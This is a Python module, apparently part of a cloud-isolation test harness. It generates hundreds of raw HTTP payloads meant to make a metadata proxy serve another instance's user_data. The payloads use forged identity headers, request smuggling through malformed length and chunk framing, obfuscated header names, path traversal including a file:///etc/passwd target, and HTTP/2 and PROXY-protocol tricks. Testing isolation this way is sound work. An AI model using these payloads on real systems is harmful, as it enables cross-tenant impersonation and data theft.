"""What an instance may send to be taken for another one, as raw bytes.

`TABLE` maps an attempt's name to its template. In a template stand

    @F@  header lines that name the victim, each with its line end
    @R@  a whole request for the victim's user data, with those headers
    @X@  the length of @R@ in hexadecimal; @L@ in decimal
    @P@  the path of the user data
    @I@  the victim's instance id; @A@ its address
    @2@  HTTP/2: the frames of such a request

and a template is a whole: what comes behind its first request is part of
the attempt.
"""

from __future__ import annotations

import dataclasses
import socket
import struct
from collections.abc import Iterable, Iterator

from .instances import Instance

USER_DATA = b"/openstack/latest/user_data"
ANSWER_TIMEOUT_S = 60.0
_POST = b"POST /latest/x HTTP/1.1\r\nHost: m\r\n"
_GET = b"GET @P@ HTTP/1.1\r\nHost: m\r\n"
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_PROXY_V2 = b"\r\n\r\n\0\r\nQUIT\n"


@dataclasses.dataclass(frozen=True, slots=True)
class Victim:
    """Whom to be taken for; even its true signature is known."""

    instance_id: str
    project_id: str
    network: str
    address: str
    signature: str

    def claims(self) -> list[tuple[bytes, bytes]]:
        """Return headers that make a naive proxy speak for the victim."""
        pairs = (
            ("X-Instance-ID", self.instance_id),
            ("X-Tenant-ID", self.project_id),
            ("X-Instance-ID-Signature", self.signature),
            ("X-Forwarded-For", self.address),
            ("X-OVN-Network-ID", self.network),
            ("X-Metadata-Provider", self.network),
            ("X-Metadata-Provider-Signature", self.signature),
            ("Forwarded", f"for={self.address}"),
        )
        return [(name.encode(), value.encode()) for name, value in pairs]


def fill(template: bytes, victim: Victim) -> bytes:
    """Return the bytes of TEMPLATE against VICTIM."""
    forged = _lines(victim.claims())
    request = b"GET %b HTTP/1.1\r\nHost: m\r\n%b\r\n" % (USER_DATA, forged)
    values = {
        b"@2@": _http2(victim),
        b"@F@": forged,
        b"@R@": request,
        b"@X@": b"%x" % len(request),
        b"@L@": b"%d" % len(request),
        b"@P@": USER_DATA,
        b"@I@": victim.instance_id.encode(),
        b"@A@": victim.address.encode(),
    }
    for token, value in values.items():
        template = template.replace(token, value)
    return template


def _lines(pairs: Iterable[tuple[bytes, bytes]]) -> bytes:
    return b"".join(b"%b: %b\r\n" % pair for pair in pairs)


def _http2(victim: Victim) -> bytes:
    """Return SETTINGS and HEADERS (RFC 9113; RFC 7541, 6.2.2: as they are)."""
    fields = [
        (b":method", b"GET"),
        (b":scheme", b"http"),
        (b":path", USER_DATA),
        (b":authority", b"m"),
        (b"accept", b"a\r\nX-Instance-ID: " + victim.instance_id.encode()),
        *((name.lower(), value) for name, value in victim.claims()),
        *victim.claims(),
    ]
    # A string's length, of up to 126 bytes, is a byte of its own.
    block = b"".join(
        b"\0%c%b%c%b" % (len(name), name, len(value), value)
        for name, value in fields
    )
    end_of_stream_and_headers = 0x05
    return _frame(4, 0, 0, b"") + _frame(
        1, end_of_stream_and_headers, 1, block
    )


def _frame(kind: int, flags: int, stream: int, data: bytes) -> bytes:
    size = struct.pack("!I", len(data))[1:]
    return size + struct.pack("!BBI", kind, flags, stream) + data


# ------------------------------------------------------------------ framing

# Each is a header (or what may pass for one) that could make one of two
# servers take a body for chunked and the other not.
_TRANSFER_ENCODINGS = {
    "plain": b"Transfer-Encoding: chunked",
    "upper case": b"TRANSFER-ENCODING: CHUNKED",
    "blank before colon": b"Transfer-Encoding : chunked",
    "tab before colon": b"Transfer-Encoding\t: chunked",
    "vertical tab in name": b"Transfer-Encoding\x0b: chunked",
    "underscore": b"Transfer_Encoding: chunked",
    "tab": b"Transfer-Encoding:\tchunked",
    "vertical tab": b"Transfer-Encoding:\x0bchunked",
    "vertical tab after": b"Transfer-Encoding: chunked\x0b",
    "NUL after": b"Transfer-Encoding: chunked\0",
    "no-break space": b"Transfer-Encoding:\xa0chunked",
    "folded": b"Transfer-Encoding:\r\n chunked",
    "folded by bare LF": b"Transfer-Encoding:\n chunked",
    "folded from the line above": b"Accept: a\r\n Transfer-Encoding: chunked",
    "behind a bare CR": b"Accept: a\rTransfer-Encoding: chunked",
    "behind a bare LF": b"Accept: a\nTransfer-Encoding: chunked",
    "behind a NUL": b"Accept: a\0Transfer-Encoding: chunked",
    "identity": b"Transfer-Encoding: identity",
    "x": b"Transfer-Encoding: xchunked",
    "quoted": b'Transfer-Encoding: "chunked"',
    "with a parameter": b"Transfer-Encoding: chunked;q=1",
    "empty": b"Transfer-Encoding: ",
    "list, chunked first": b"Transfer-Encoding: chunked, identity",
    "list, chunked last": b"Transfer-Encoding: identity, chunked",
    "list, gzip": b"Transfer-Encoding: gzip, chunked",
    "list, twice": b"Transfer-Encoding: chunked, chunked",
    "list, empty items": b"Transfer-Encoding: ,chunked,",
    "two lines": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "two lines, the other way": b"Transfer-Encoding: identity\r\n"
    b"Transfer-Encoding: chunked",
    "two lines, odd one": b"Transfer-Encoding: chunked\r\n"
    b"Transfer-encoding: cow",
    "two lines, one empty": b"Transfer-Encoding: chunked\r\n"
    b"Transfer-Encoding:",
    "two lines, the first empty": b"Transfer-Encoding: \r\n"
    b"Transfer-Encoding: chunked",
}

_LENGTHS = {
    "plus": b"+4",
    "minus": b"-4",
    "hexadecimal": b"0x4",
    "exponent": b"4e0",
    "underscore": b"0_4",
    "leading zeros": b"0004",
    "list of the same": b"4, 4",
    "list of others": b"4, @L@",
    "two words": b"4 @L@",
    "two lines": b"4\r\nContent-Length: @L@",
    "two lines, smaller last": b"@L@\r\nContent-Length: 4",
    "same twice": b"4\r\nContent-Length: 4",
    "folded": b"4\r\n 4",
    "empty": b"",
    "vertical tab": b"4\x0b",
    "NUL": b"4\0",
    "no number": b"four",
    "Arabic digit": "\u0664".encode(),
    "fraction": b"4.0",
    "beyond 64 bits": b"18446744073709551620",
    "2 to the 64th": b"18446744073709551616",
    "0 and 2 to the 64th": b"0, 18446744073709551616",
    "too long": b"1@L@",
    "zero": b"0",
}

_CHUNKS = {
    "hexadecimal sign": b"0x4\r\nabcd\r\n0\r\n\r\n",
    "plus": b"+4\r\nabcd\r\n0\r\n\r\n",
    "blank before": b" 4\r\nabcd\r\n0\r\n\r\n",
    "blank after": b"4 \r\nabcd\r\n0\r\n\r\n",
    "leading zeros": b"0000000000000000000000004\r\nabcd\r\n0\r\n\r\n",
    "beyond 64 bits": b"10000000000000004\r\nabcd\r\n0\r\n\r\n",
    "negative": b"-1\r\nabcd\r\n0\r\n\r\n",
    "extension": b"4;a=b\r\nabcd\r\n0;c\r\n\r\n",
    "extension with a bare LF": b"4;a\nabcd\r\n0\r\n\r\n",
    "extension with a bare CR": b"4;a\rb\r\nabcd\r\n0\r\n\r\n",
    "extension with a request": b"4;\n\r\n@R@",
    "bare LF after size": b"4\nabcd\r\n0\r\n\r\n",
    "bare CR after size": b"4\rabcd\r\n0\r\n\r\n",
    "bare LF after data": b"4\r\nabcd\n0\r\n\r\n",
    "two bytes for the line end": b"4\r\nabcdxx0\r\n\r\n",
    "longer than said": b"2\r\nabcd\r\n0\r\n\r\n",
    "last one ends by LF": b"4\r\nabcd\r\n0\n\n",
    "last one of zeros": b"4\r\nabcd\r\n000\r\n\r\n",
    "empty size": b"\r\nabcd\r\n0\r\n\r\n",
    "request as data": b"@X@\r\n@R@\r\n0\r\n\r\n",
    "trailers": b"4\r\nabcd\r\n0\r\n@F@\r\n",
    "trailers that read as a request": b"4\r\nabcd\r\n0\r\n"
    b"a: b\r\nGET: @P@ HTTP/1.1\r\nHost: m\r\n@F@\r\n",
    "trailers that set a length": b"4\r\nabcd\r\n0\r\n"
    b"Content-Length: @L@\r\nTransfer-Encoding: x\r\n\r\n",
}


def _framing() -> Iterator[tuple[str, bytes]]:
    for name, line in _TRANSFER_ENCODINGS.items():
        head = _POST + line + b"\r\n"
        yield (
            f"length and encoding: {name}",
            head + b"Content-Length: 1@L@\r\n\r\n0\r\n\r\n@R@",
        )
        yield f"encoding: {name}", head + b"\r\n0\r\n\r\n@R@"
        yield (
            f"encoding and short length: {name}",
            head + b"Content-Length: 4\r\n\r\n@X@\r\n@R@\r\n0\r\n\r\n@R@",
        )
    for name, value in _LENGTHS.items():
        yield (
            f"length: {name}",
            _POST + b"Content-Length: " + value + b"\r\n\r\nabcd@R@",
        )
    for name, body in _CHUNKS.items():
        head = _POST + b"Transfer-Encoding: chunked\r\n\r\n"
        yield f"chunk: {name}", head + body + b"@R@"
    for method in (b"GET", b"HEAD", b"DELETE", b"OPTIONS", b"PUT", b"ODD"):
        yield (
            f"request as body of {method.decode()}",
            method + b" /latest/x HTTP/1.1\r\nHost: m\r\n"
            b"Content-Length: @L@\r\n\r\n@R@@R@",
        )
    yield (
        "length in HTTP/1.0 with encoding",
        b"POST /latest/x HTTP/1.0\r\nConnection: keep-alive\r\n"
        b"Transfer-Encoding: chunked\r\nContent-Length: @L@\r\n\r\n"
        b"0\r\n\r\n@R@",
    )


# -------------------------------------------------------------------- lines

_HEADS = {
    "plain": b"@F@",
    "before Host": b"",
    "behind a bare LF": b"Accept: a\n@F@",
    "behind a bare CR": b"Accept: a\r@F@",
    "behind two CR": b"Accept: a\r\r@F@",
    "behind CR CR LF": b"Accept: a\r\r\n@F@",
    "behind a NUL": b"Accept: a\0@F@",
    "behind a vertical tab": b"Accept: a\x0b@F@",
    "behind a form feed": b"Accept: a\x0c@F@",
    "behind a file separator": b"Accept: a\x1c@F@",
    "behind NEL": b"Accept: a\x85@F@",
    "behind a line separator": "Accept: a\u2028".encode() + b"@F@",
    "percent-encoded line end": b"Accept: a%0d%0a@F@",
    "folded by blank": b"Accept: a\r\n @F@",
    "folded by tab": b"Accept: a\r\n\t@F@",
    "folded value": b"X-Instance-ID:\r\n @I@\r\n",
    "folded value by LF": b"X-Instance-ID:\n @I@\r\n",
    "folded name": b"X-Instance\r\n -ID: @I@\r\n",
    "behind a line of blanks": b" \r\n@F@",
    "behind a line of a tab": b"\t\r\n@F@",
    "behind a line of a CR": b"\r\r\n@F@",
    "behind a line without colon": b"nonsense\r\n@F@",
    "behind an empty name": b": a\r\n@F@",
    "empty name": b":X-Instance-ID: @I@\r\n",
    "blank before colon": b"X-Instance-ID : @I@\r\n",
    "tab before colon": b"X-Instance-ID\t: @I@\r\n",
    "value with LF": b"X-Instance-ID: a\n@I@\r\n",
    "list": b"X-Instance-ID: @I@, @I@\r\n",
    "twice": b"@F@@F@",
    "fifty times": b"X-Instance-ID: @I@\r\n" * 50,
    "two hundred times": b"X-Instance-ID: @I@\r\n" * 200,
    "behind a long value": b"Accept: " + b"a" * 7000 + b"\r\n@F@",
    "behind a value too long": b"Accept: " + b"a" * 20_000 + b"\r\n@F@",
    "long name": b"X-Instance-ID" + b"-" * 7000 + b": @I@\r\n",
    "hop-by-hop: identity": b"Connection: X-Instance-ID, X-Tenant-ID, "
    b"X-Instance-ID-Signature, X-Forwarded-For\r\n@F@",
    "hop-by-hop: close too": b"Connection: close, X-Instance-ID\r\n@F@",
    "hop-by-hop: lengths": b"Connection: keep-alive, Content-Length\r\n"
    b"Content-Length: 0\r\n@F@",
    "hop-by-hop: Host": b"Connection: Host\r\nKeep-Alive: 5\r\n@F@",
    "hop-by-hop: proxy": b"Proxy-Connection: keep-alive, X-Instance-ID\r\n"
    b"TE: trailers\r\n@F@",
    "two Hosts": b"Host: n\r\n@F@",
    "Host folded": b"Host: n\r\n @F@",
    "Expect": b"Expect: 100-continue\r\n@F@",
    "Expect with a body": b"Expect: 100-continue\r\nContent-Length: @L@\r\n"
    b"\r\n@R@",
    "Expect of something": b"Expect: 200-ok\r\nContent-Length: 4\r\n"
    b"\r\nabcd@R@",
    "Expect twice": b"Expect: 100-continue\r\nExpect: 100-continue\r\n"
    b"Content-Length: 4\r\n\r\nabcd@R@",
    "Expect with chunks": b"Expect: 100-continue\r\n"
    b"Transfer-Encoding: chunked\r\n\r\n@X@\r\n@R@\r\n0\r\n\r\n",
    "method override": b"X-HTTP-Method-Override: CONNECT\r\n@F@",
    "path override": b"X-Original-URL: /echo\r\nX-Rewrite-URL: /echo\r\n@F@",
    "script name": b"SCRIPT_NAME: /echo\r\nSCRIPT-NAME: /echo\r\n@F@",
    "of proxies": b"Proxy: http://@A@:1/\r\nTrue-Client-IP: @A@\r\n"
    b"-Forwarded: for=@A@\r\nClient-IP: @A@\r\n@F@",
    "credentials": b"Authorization: Basic YTpi\r\nCookie: a=b\r\n@F@",
}


def _heads() -> Iterator[tuple[str, bytes]]:
    for name, lines in _HEADS.items():
        end = b"\r\n" if b"\r\n\r\n" not in lines else b""
        yield f"header: {name}", _GET + lines + end
    yield (
        "header: before Host",
        b"GET @P@ HTTP/1.1\r\n@F@Host: m\r\n\r\n",
    )
    yield (
        "lines end by bare LF",
        b"GET @P@ HTTP/1.1\nHost: m\nX-Instance-ID: @I@\n\n@R@",
    )
    yield (
        "lines end by bare CR",
        b"GET @P@ HTTP/1.1\rHost: m\rX-Instance-ID: @I@\r\r@R@",
    )
    yield "first line is a folded one", b"GET @P@ HTTP/1.1\r\n @F@Host: m\r\n"
    yield "blank lines first", b"\r\n\n\r\n@R@"
    yield "NUL first", b"\0@R@"
    yield "headers without a request", b"@F@\r\n@R@"


# What WSGI servers and their front ends have been seen to fold into the
# name of a header, or to take off its ends.
_NAMES = {
    **{
        f"separator {character!r}": f"X{character}Instance{character}ID"
        for character in "_.+~!|^`'*$&#%=/ \t\x0b\x0c\x00\x7f\x85\xa0\xad"
    },
    **{
        f"ends with {character!r}": f"X-Instance-ID{character}"
        for character in "\x0b\x0c\x00\x01\x1c\x7f\x85\xa0\xad\r_.;,"
    },
    **{
        f"begins with {character!r}": f"{character}X-Instance-ID"
        for character in "\x0b\x0c\x00\x01\x7f\x85\xa0\xad\r_.;,-"
    },
    "CGI": "HTTP_X_INSTANCE_ID",
    "CGI, dashes": "HTTP-X-Instance-ID",
    "percent": "X%2dInstance%2dID",
    "two dashes": "X--Instance--ID",
    "soft hyphen": "X\u00adInstance\u00adID",
    "small x, mixed case": "x-InStAnCe-iD",
    "fullwidth": "\uff38-Instance-ID",
    "dotless i": "X-\u0131nstance-ID",
    "long s": "X-In\u017ftance-ID",
    "Cyrillic": "\u0425-Instance-ID",
    "non-breaking hyphen": "X\u2011Instance\u2011ID",
}


def _names() -> Iterator[tuple[str, bytes]]:
    for title, name in _NAMES.items():
        for encoding in ("latin-1", "utf-8"):
            try:
                raw = name.encode(encoding)
            except UnicodeEncodeError:
                continue
            if encoding == "utf-8" and name.isascii():
                continue
            kind = "" if name.isascii() else f", {encoding}"
            yield f"name: {title}{kind}", _GET + raw + b": @I@\r\n\r\n"


# ---------------------------------------------------------- request lines

_TARGETS = {
    "absolute": b"http://m@P@",
    "absolute, another host": b"http://nova.example:8775@P@",
    "absolute, with a user": b"http://m@127.0.0.1:8775@P@",
    "absolute, the gateway": b"unix@gateway:@P@",
    "absolute, https": b"https://m@P@",
    "absolute, odd scheme": b"file:///etc/passwd",
    "absolute, no path": b"http://other.internal",
    "absolute, no path but a query": b"http://other.internal?@P@",
    "odd scheme, an odd host": b"s://]u/:",
    "authority": b"m:80",
    "asterisk": b"*",
    "no slash": b"latest/meta-data",
    "two slashes": b"//openstack//latest//user_data",
    "dots": b"/latest/../../..@P@",
    "dots and a semicolon": b"/..;@P@",
    "percent-encoded slash": b"/%2f..%2fopenstack%2flatest%2fuser_data",
    "percent-encoded twice": b"/%252e%252e@P@",
    "backslash": b"/..\\..@P@",
    "fragment": b"@P@#/../x",
    "percent-encoded request": b"/x%20HTTP/1.1%0d%0aX-Instance-ID:%20@I@"
    b"%0d%0a%0d%0aGET%20@P@",
    "query that names the victim": b"@P@?instance_id=@I@&X-Instance-ID=@I@",
    "parameters": b"@P@;instance-id=@I@",
    "blank": b"/x @P@",
    "tab": b"/x\t@P@",
    "NUL": b"/x\0@P@",
    "bare CR": b"/x HTTP/1.1\rX-Instance-ID: @I@\r",
    "bare LF": b"/x HTTP/1.1\nX-Instance-ID: @I@\n",
    "high bytes": b"/\xff\xfe@P@",
    **{f"byte {n:02x}": b"/%c@P@" % n for n in (0x1F, 0x7F, 0x80, 0xA3)},
    "long": b"@P@?" + b"a" * 12_000,
    "too long": b"@P@?" + b"a" * 40_000,
    "empty": b"",
}
_METHODS = (
    *("TRACE", "TRACK", "PRI", "get", "PURGE", "M" * 300, "GET:", "G\tET"),
    *("GET\x0b", "GE\0T", "PROPFIND", "CONNECT", "connect", "LINK", "SOURCE"),
)
_VERSIONS = {
    "HTTP/0.9 without": b"",
    "HTTP/0.9": b" HTTP/0.9",
    "HTTP/1.0": b" HTTP/1.0",
    "HTTP/1.2": b" HTTP/1.2",
    "HTTP/2.0": b" HTTP/2.0",
    "HTTP/11": b" HTTP/11",
    "lower case": b" http/1.1",
    "with something": b" HTTP/1.1 x",
    "vertical tab": b" HTTP/1.1\x0b",
    "ICY": b" ICY/1.1",
}


def _request_lines() -> Iterator[tuple[str, bytes]]:
    for name, target in _TARGETS.items():
        yield (
            f"target: {name}",
            b"GET " + target + b" HTTP/1.1\r\nHost: m\r\n@F@\r\n@R@",
        )
    for method in _METHODS:
        yield (
            f"method: {method[:10]!r}",
            method.encode() + b" @P@ HTTP/1.1\r\nHost: m\r\n@F@\r\n@R@",
        )
    for name, version in _VERSIONS.items():
        yield f"version: {name}", b"GET @P@" + version + b"\r\n@F@\r\n@R@"
    for name, host in {
        "none": b"",
        "another": b"Host: 127.0.0.1:8775\r\n",
        "with a user": b"Host: m@127.0.0.1\r\n",
        "with a path": b"Host: m/../x\r\n",
        "with a blank": b"Host: m x\r\n",
        "not that of the target": b"Host: n\r\n",
    }.items():
        yield (
            f"host: {name}",
            b"GET http://m@P@ HTTP/1.1\r\n" + host + b"@F@\r\n@R@",
        )


# ---------------------------------------------- other protocols, pipelining


def _protocols() -> Iterator[tuple[str, bytes]]:
    for target in (b"m:80", b"127.0.0.1:8775", b"/", b"http://m@P@"):
        yield (
            f"tunnel: CONNECT {target.decode()}",
            b"CONNECT " + target + b" HTTP/1.1\r\nHost: m\r\n@F@\r\n@R@",
        )
    settings = b"HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n"
    h2c = b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
    websocket = (
        b"Connection: Upgrade\r\nUpgrade: websocket\r\n"
        b"Sec-WebSocket-Version: 13\r\n"
        b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
    )
    yield "upgrade: h2c", _GET + h2c + settings + b"\r\n" + _PREFACE + b"@2@"
    yield (
        "upgrade: h2c, not named hop-by-hop",
        _GET + b"Upgrade: h2c\r\n" + settings + b"\r\n" + _PREFACE + b"@2@",
    )
    yield "upgrade: websocket", _GET + websocket + b"\r\n@R@"
    yield (
        "upgrade: websocket by POST",
        _POST + websocket + b"Content-Length: @L@\r\n\r\n@R@@R@",
    )
    yield (
        "upgrade: TLS",
        b"OPTIONS * HTTP/1.1\r\nHost: m\r\nConnection: Upgrade\r\n"
        b"Upgrade: TLS/1.0\r\n\r\n@R@",
    )
    yield "upgrade: to nothing", _GET + b"Connection: Upgrade\r\n\r\n@R@"
    yield "HTTP/2 with prior knowledge", _PREFACE + b"@2@"
    yield "HTTP/2 behind a request", _GET + b"\r\n" + _PREFACE + b"@2@"
    yield "HTTP/2, the preface alone", _PREFACE + b"@R@"
    yield "PROXY, version 1", b"PROXY TCP4 @A@ 169.254.169.254 9 80\r\n@R@"
    yield "PROXY, version 1, unknown", b"PROXY UNKNOWN\r\n@R@"
    yield (
        "PROXY, version 2",
        _PROXY_V2 + b"\x21\x11\0\x0c\x0a\x0a\0\x0b\xa9\xfe\xa9\xfe\0\x09\0P"
        b"@R@",
    )
    yield "PROXY, version 2, local", _PROXY_V2 + b"\x20\0\0\0@R@"
    yield "TLS hello", b"\x16\x03\x01\x00\x05\x01\0\0\x01\0@R@"
    yield "pipelined", b"@R@" * 10
    yield "pipelined behind a HEAD", b"HEAD / HTTP/1.1\r\nHost: m\r\n\r\n@R@"
    yield (
        "pipelined behind the last one",
        _GET + b"Connection: close\r\n\r\n@R@",
    )
    yield (
        "pipelined, HTTP/1.0 kept alive",
        b"GET @P@ HTTP/1.0\r\nConnection: keep-alive\r\n@F@\r\n@R@",
    )
    yield "body that never comes", _POST + b"Content-Length: 9@L@\r\n\r\n@R@"


TABLE: dict[str, bytes] = {
    name: template
    for part in (_framing, _heads, _names, _request_lines, _protocols)
    for name, template in part()
}


def send(instance: Instance, data: bytes, *, ipv6: bool = False) -> bytes:
    """Send DATA and nothing more; return all that is answered."""
    said = b""
    with instance.connect(ipv6=ipv6, timeout=ANSWER_TIMEOUT_S) as link:
        try:
            link.sendall(data)
            link.shutdown(socket.SHUT_WR)
            while part := link.recv(65536):
                said += part
        except TimeoutError:
            raise
        except OSError:
            pass  # refused before it was read whole
    return said
